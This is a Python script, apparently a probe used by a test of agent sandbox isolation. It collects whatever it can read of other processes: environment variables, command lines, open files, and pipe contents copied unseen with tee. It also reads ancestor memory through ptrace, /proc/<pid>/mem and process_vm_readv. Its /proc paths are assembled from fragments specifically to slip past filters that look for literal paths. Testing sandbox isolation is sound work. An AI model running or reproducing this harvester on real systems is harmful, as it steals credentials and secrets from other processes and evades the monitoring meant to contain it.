"""What an agent's tool can read of other processes through /proc, run as a program.

    python credential_probe.py <dump-file> [--memory]

An attacker's one-liner, written out: it builds every path at run time (so no filter on
a literal `/proc/*/environ` sees it), walks up its ancestors and over every process it can
see, and copies into <dump-file> whatever it can read: `environ`, `cmdline`, the contents
of every open regular file and pipe under `fd/` (pipes are copied with tee(2), so their
owner still reads them), and with `--memory` the memory of its ancestors through
`/proc/<pid>/mem` and `process_vm_readv`, after trying to attach to them with ptrace.
<dump-file>.json says, per process, which reads worked and which failed with what errno.
It knows no secret: the test searches the dump afterwards. Standard library only.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import stat
import sys
from pathlib import Path

FD_BYTES = 64 * 1024
TOTAL_FD_BYTES = 64 * 1024 * 1024
MEMORY_REGION_BYTES = 64 * 1024 * 1024
_SPLICE_F_NONBLOCK = 2
_PTRACE_ATTACH = 16
_PTRACE_DETACH = 17

LIBC = ctypes.CDLL(None, use_errno=True)


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def proc(*parts: object) -> str:
    """A /proc path assembled from pieces at run time."""
    return "/".join(["", "pr" + "oc", *(str(part) for part in parts)])


def parent_of(pid: int) -> int:
    for line in Path(proc(pid, "stat" + "us")).read_text().splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def ancestors() -> list[int]:
    chain: list[int] = []
    pid = os.getppid()
    while pid > 0:
        chain.append(pid)
        try:
            pid = parent_of(pid)
        except OSError:
            break
    return chain


def visible_pids() -> list[int]:
    return sorted(int(name) for name in os.listdir(proc()) if name.isdigit())


class Dump:
    def __init__(self, path: Path) -> None:
        self.out = path.open("wb")
        self.fd_bytes = 0

    def add(self, label: str, data: bytes) -> None:
        self.out.write(f"\n=== {label} ({len(data)} bytes)\n".encode())
        self.out.write(data)


def _errno_name(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, str(error.errno))


def read_file(path: str, limit: int | None = None) -> bytes:
    flags = os.O_RDONLY | os.O_NONBLOCK
    descriptor = os.open(path, flags)
    try:
        chunks: list[bytes] = []
        size = 0
        while limit is None or size < limit:
            chunk = os.read(descriptor, 65536 if limit is None else min(65536, limit - size))
            if not chunk:
                break
            chunks.append(chunk)
            size += len(chunk)
        return b"".join(chunks)
    finally:
        os.close(descriptor)


def copy_pipe(path: str) -> bytes:
    """What sits in a pipe, without taking it from its owner (tee(2))."""
    source = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    copy_read, copy_write = os.pipe()
    try:
        copied = LIBC.tee(source, copy_write, FD_BYTES, _SPLICE_F_NONBLOCK)
        if copied <= 0:
            return b""
        os.set_blocking(copy_read, False)
        return os.read(copy_read, copied)
    finally:
        for descriptor in (source, copy_read, copy_write):
            os.close(descriptor)


def probe_fds(pid: int, dump: Dump, report: dict[str, object]) -> None:
    directory = proc(pid, "f" + "d")
    try:
        names = os.listdir(directory)
    except OSError as error:
        report["fd"] = _errno_name(error)
        return
    outcomes: dict[str, str] = {}
    for name in names:
        path = f"{directory}/{name}"
        try:
            target = os.readlink(path)
            mode = os.stat(path).st_mode
            if dump.fd_bytes >= TOTAL_FD_BYTES:
                outcomes[name] = "skipped"
                continue
            if stat.S_ISREG(mode):
                data = read_file(path, FD_BYTES)
            elif stat.S_ISFIFO(mode):
                data = copy_pipe(path)
            else:
                outcomes[name] = "not a file or pipe"
                continue
        except OSError as error:
            outcomes[name] = _errno_name(error)
            continue
        dump.fd_bytes += len(data)
        dump.add(f"{pid} fd {name} -> {target}", data)
        outcomes[name] = "read"
    report["fd"] = outcomes


def readable_regions(pid: int) -> list[tuple[int, int]]:
    regions: list[tuple[int, int]] = []
    for line in Path(proc(pid, "ma" + "ps")).read_text().splitlines():
        fields = line.split()
        start, end = (int(value, 16) for value in fields[0].split("-"))
        pathname = fields[5] if len(fields) > 5 else ""
        if fields[1].startswith("r") and (pathname in ("", "[heap]", "[stack]")):
            regions.append((start, min(end, start + MEMORY_REGION_BYTES)))
    return regions


def probe_memory(pid: int, dump: Dump, report: dict[str, object]) -> None:
    # ptrace: attach (stops the target), then let it go again.
    if LIBC.ptrace(_PTRACE_ATTACH, pid, None, None) == 0:
        os.waitpid(pid, 0x40000000)  # __WALL
        LIBC.ptrace(_PTRACE_DETACH, pid, None, None)
        report["ptrace"] = "attached"
    else:
        report["ptrace"] = errno.errorcode.get(ctypes.get_errno(), "?")
    try:
        regions = readable_regions(pid)
        report["maps"] = "read"
    except OSError as error:
        regions = []
        report["maps"] = _errno_name(error)
    try:
        descriptor = os.open(proc(pid, "m" + "em"), os.O_RDONLY)
    except OSError as error:
        report["mem"] = _errno_name(error)
    else:
        read = 0
        for start, end in regions:
            try:
                data = os.pread(descriptor, end - start, start)
            except OSError:
                continue
            read += len(data)
            dump.add(f"{pid} mem {start:x}", data)
        os.close(descriptor)
        report["mem"] = "read" if read else "nothing readable"
    # Without the maps, any address will do: the kernel checks access before the address.
    start, end = regions[0] if regions else (0x10000, 0x11000)
    size = min(end - start, 1 << 20)
    buffer = ctypes.create_string_buffer(size)
    local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
    remote = _IoVec(ctypes.c_void_p(start), size)
    LIBC.process_vm_readv.argtypes = [
        ctypes.c_int,
        ctypes.POINTER(_IoVec),
        ctypes.c_ulong,
        ctypes.POINTER(_IoVec),
        ctypes.c_ulong,
        ctypes.c_ulong,
    ]
    LIBC.process_vm_readv.restype = ctypes.c_ssize_t
    copied = LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if copied > 0:
        dump.add(f"{pid} process_vm_readv {start:x}", buffer.raw[:copied])
        report["process_vm_readv"] = "read"
    else:
        report["process_vm_readv"] = errno.errorcode.get(ctypes.get_errno(), "?")


def main(arguments: list[str]) -> int:
    dump_path = Path(arguments[0])
    with_memory = "--memory" in arguments[1:]
    dump = Dump(dump_path)
    lineage = ancestors()
    reports: dict[int, dict[str, object]] = {}
    for pid in sorted(set(visible_pids()) | set(lineage)):
        if pid == os.getpid():
            continue
        report: dict[str, object] = {"ancestor": pid in lineage}
        for name in ("en" + "viron", "cmd" + "line"):
            try:
                dump.add(f"{pid} {name}", read_file(proc(pid, name)))
                report[name] = "read"
            except OSError as error:
                report[name] = _errno_name(error)
        probe_fds(pid, dump, report)
        if with_memory and pid in lineage:
            probe_memory(pid, dump, report)
        reports[pid] = report
    dump.out.close()
    summary = {"pid": os.getpid(), "ancestors": lineage, "processes": reports}
    Path(f"{dump_path}.json").write_text(json.dumps(summary, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
